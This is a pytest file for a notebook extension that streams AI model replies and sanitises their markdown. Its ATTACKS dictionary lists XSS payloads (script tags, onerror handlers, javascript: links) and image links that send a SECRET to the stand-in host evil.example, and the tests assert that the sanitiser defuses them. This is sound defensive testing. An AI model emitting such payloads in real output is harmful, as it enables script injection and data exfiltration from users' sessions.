import time
import pytest
from boopiter_ext.stream import Reply, pump
from boopiter_ext.render import (safe_markdown, close_fences, reply_bundle, reply_markdown, reply_plain, details_html)


def feed(chunks, thinking=()):
    r = Reply('m')
    for t in thinking: r.add_thinking(t)
    for c in chunks: r.add_content(c)
    r.finish('done')
    return r


@pytest.mark.parametrize('chunks', [
    ['<think>plan</think>Answer'], ['<thi', 'nk>pl', 'an</th', 'ink>', 'Answer'], ['  <think>', 'plan', '</think>\nAnswer'],
])
def test_think_tags_go_to_reasoning_even_split_across_chunks(chunks):
    r = feed(chunks)
    assert (r.reasoning.strip(), r.answer.strip()) == ('plan', 'Answer')


def test_think_tag_after_answer_text_is_just_text():
    r = feed(['Use ', '<think>', ' tags like this'])
    assert r.answer == 'Use <think> tags like this' and r.reasoning == ''


def test_unclosed_think_is_shown_not_swallowed():
    r = feed(['<think>all of it'])
    assert r.answer == 'all of it' and 'never closed' in r.note


def test_thinking_field_never_mixes_into_the_answer():
    r = feed(['Yes.'], thinking=['Because ', 'reasons.'])
    assert (r.reasoning, r.answer) == ('Because reasons.', 'Yes.')
    data, md = reply_bundle(r)
    assert data['text/plain'] == 'Yes.'
    assert data['text/markdown'].index('Because reasons.') < data['text/markdown'].index('Yes.')
    assert '<summary>Reasoning</summary>' in data['text/markdown']


def test_pump_throttles_updates_and_counts_tokens():
    def events():
        for i in range(50):
            time.sleep(0.01)
            yield 'content', f'{i} '
        yield 'done', dict(finish_reason='stop', completion_tokens=50, prompt_tokens=7)
    seen = []
    r = pump(events(), Reply('m'), update=lambda r: seen.append(r.answer), interval=0.1)
    r.finish('done')
    assert r.answer == ''.join(f'{i} ' for i in range(50))
    assert 3 <= len(seen) <= 8                              # ~0.5 s of tokens at most 10 updates/s
    assert seen[0] == '0 '                                  # the first token shows at once
    assert r.info['finish_reason'] == 'stop' and r.completion_tokens == 50 and r.tokens_per_s > 0


def test_partial_reply_is_marked_in_both_mime_types():
    r = Reply('m')
    r.add_content('half an ans')
    r.finish('interrupted')
    assert reply_plain(r) == 'half an ans\n\n*(interrupted)*'
    assert '*(interrupted)*' in reply_markdown(r) and 'Status: interrupted' in reply_markdown(r)


def test_same_mime_types_while_streaming_and_at_the_end():
    r = Reply('m')
    r.add_content('```python\nx = 1\n')
    streaming = reply_bundle(r)
    assert streaming[0]['text/markdown'].endswith('```')           # an open fence is closed while streaming
    assert '<details>' not in streaming[0]['text/markdown']
    r.finish('done')
    final = reply_bundle(r)
    assert set(final[0]) == set(streaming[0]) == {'text/markdown', 'text/plain'}
    assert final[0]['text/plain'] == '```python\nx = 1\n'
    assert final[1]['boopiter']['status'] == 'done' and streaming[1]['boopiter']['status'] == 'streaming'


ATTACKS = {
    'raw tags': 'a <script>x()</script> <img src=x onerror=y()> <svg/onload=z()>',
    'escaped backtick opens no code span': 'Note: \\`<img src=x onerror=alert(1)>`',
    'code span across a blank line': 'a ` b\n\n<img src=x onerror=alert(2)>\n\nc `',
    'fence info with a backtick': '``` x`\n<img src=x onerror=alert(3)>\n```',
    'fence in a list item, then a lazy line': '- item\n  ```\n<img src=x onerror=alert(4)>\n  ```',
    'html block': '<details><summary>s</summary>\n\n<script>x()</script>\n</details>',
    'comment': '<!-- hidden --> text',
    'reference image': '![leak][r]\n\n[r]: https://evil.example/p.png?q=SECRET',
    'image with a quoted title': "![leak](https://evil.example/p.png?q=SECRET 'x')",
    'image with escaped slashes': '![leak](https:\\/\\/evil.example/p.png?q=SECRET)',
    'image with an entity colon': '![leak](https&#58;//evil.example/p.png?q=SECRET)',
    'protocol-relative image': '![x](//evil.example/a.png)',
    'reference javascript link': '[click][j]\n\n[j]: javascript:alert(5)',
    'entity javascript link': '[click](javascript&#58;alert(6))',
    'mixed-case javascript link': '[x](JaVaScRiPt:alert(1))',
    'autolink javascript': '<javascript:alert(1)>',
    'table cell': '| a | b |\n|---|---|\n| <img src=x onerror=1> | `<b>` |',
    'tag whose attribute holds backticks': '<img src="`" onerror=alert(1) x="`">',
    'code span beside a tag': '`<b>` <img src=x onerror=1> `<i>`',
    'unclosed code span': '`unclosed <img src=x onerror=1>',
}


@pytest.mark.parametrize('name', ATTACKS)
def test_untrusted_markdown_is_defused(name):
    from markdown_it import MarkdownIt
    md = MarkdownIt('commonmark', {'html': True}).enable('table')
    md.validateLink = lambda url: True
    tokens = md.parse(safe_markdown(ATTACKS[name]))
    flat = [c for t in tokens for c in [t, *(t.children or [])]]
    assert not [t.content for t in flat if t.type in ('html_block', 'html_inline')]
    assert not [t.attrGet('src') for t in flat if t.type == 'image' and 'evil' in (t.attrGet('src') or '')]
    assert not [t.attrGet('href') for t in flat if t.type == 'link_open' and 'script' in t.attrGet('href').lower()]


def test_defusing_keeps_code_and_ordinary_markdown():
    text = ('Use `a < b` and **bold**, a [link](https://example.com) and ![plot](plot.png).\n\n'
            '```html\n<b>kept exactly</b>\n```\n\n1. step\n\n   ```python\n   if a < b: pass\n   ```\n')
    out = safe_markdown(text)
    assert '```html\n<b>kept exactly</b>\n```' in out and '   if a < b: pass' in out
    assert '[link](https://example.com)' in out and '![plot](plot.png)' in out and '`a < b`' in out
    assert safe_markdown('see <https://example.com>') == 'see https://example.com'
    assert safe_markdown('`List<String>` in a list:\n- `a<b` and `` `<i>` ``') == '`List<String>` in a list:\n- `a<b` and `` `<i>` ``'
    assert safe_markdown('It costs $5, not $10; $x^2$ is math') == 'It costs \\$5, not \\$10; $x^2$ is math'


def test_close_fences_only_when_open():
    assert close_fences('```\ncode') == '```\ncode\n```'
    assert close_fences('```\ncode\n```\n') == '```\ncode\n```\n'
    assert close_fences('~~~~py\nx\n') == '~~~~py\nx\n~~~~'


def test_details_escape_model_names_and_ledger_labels():
    r = Reply('<b>evil</b>')
    r.finish('done')
    html = details_html(r, dict(name='Ollama', endpoint='http://h:1'),
                        dict(items=[dict(label='<i>x</i>', tokens=3, status='sent')], tokens=3, window=4096,
                             clipped=0, dropped=0))
    assert '<b>evil' not in html and '&lt;b&gt;evil' in html and '&lt;i&gt;x' in html
